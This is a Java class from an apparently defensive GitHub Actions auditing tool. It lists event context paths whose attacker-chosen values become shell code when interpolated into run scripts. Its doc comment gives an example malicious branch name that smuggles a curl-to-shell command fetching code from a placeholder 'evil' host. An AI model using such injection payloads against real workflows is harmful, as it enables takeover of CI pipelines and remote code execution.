package dev.hardening.auditor.core.workflows;

import java.util.List;
import java.util.Optional;

/**
 * Context paths whose values anyone on GitHub can choose: titles and bodies of issues, pull requests,
 * comments, reviews and discussions, commit messages and author names, and branch names (a branch
 * named {@code a";curl${IFS}evil|sh;"} is valid). Written into a {@code run:} script they become
 * shell code; that is how the elementary-data (issue comment body), Nx (pull request title) and
 * ultralytics (branch name) workflows were taken over.
 */
public final class UntrustedContexts {
    private static final List<String> PATHS = List.of(
            "github.event.issue.title",
            "github.event.issue.body",
            "github.event.pull_request.title",
            "github.event.pull_request.body",
            "github.event.pull_request.head.ref",
            "github.event.pull_request.head.label",
            "github.event.pull_request.head.repo.default_branch",
            "github.event.comment.body",
            "github.event.review.body",
            "github.event.review_comment.body",
            "github.event.discussion.title",
            "github.event.discussion.body",
            "github.event.pages.*.page_name",
            "github.event.commits.*.message",
            "github.event.commits.*.author.email",
            "github.event.commits.*.author.name",
            "github.event.head_commit.message",
            "github.event.head_commit.author.email",
            "github.event.head_commit.author.name",
            "github.event.workflow_run.head_branch",
            "github.event.workflow_run.display_title",
            "github.event.workflow_run.head_commit.message",
            "github.event.workflow_run.head_commit.author.email",
            "github.event.workflow_run.head_commit.author.name",
            "github.event.workflow_run.pull_requests.*.head.ref",
            "github.head_ref");

    private UntrustedContexts() {
    }

    /**
     * Why {@code path} (normalised, see {@link Expressions#references}) carries attacker-chosen text:
     * it is one of the untrusted fields, or an object that contains one (which {@code toJSON} or
     * {@code format} writes out whole). Empty for anything else.
     */
    public static Optional<String> why(String path) {
        String[] segments = path.split("\\.");
        for (String untrusted : PATHS) {
            String[] u = untrusted.split("\\.");
            if (matches(segments, u, u.length)) {
                return Optional.of(path + " is text anyone can choose");
            }
            if (segments.length < u.length && matches(segments, u, segments.length) && segments.length >= 1) {
                return Optional.of(path + " contains " + untrusted + ", text anyone can choose");
            }
        }
        return Optional.empty();
    }

    private static boolean matches(String[] path, String[] pattern, int length) {
        if (path.length < length) {
            return false;
        }
        if (length == pattern.length && path.length != pattern.length) {
            return false;
        }
        for (int i = 0; i < length; i++) {
            if (!pattern[i].equals("*") && !path[i].equals("*") && !pattern[i].equals(path[i])) {
                return false;
            }
        }
        return true;
    }
}
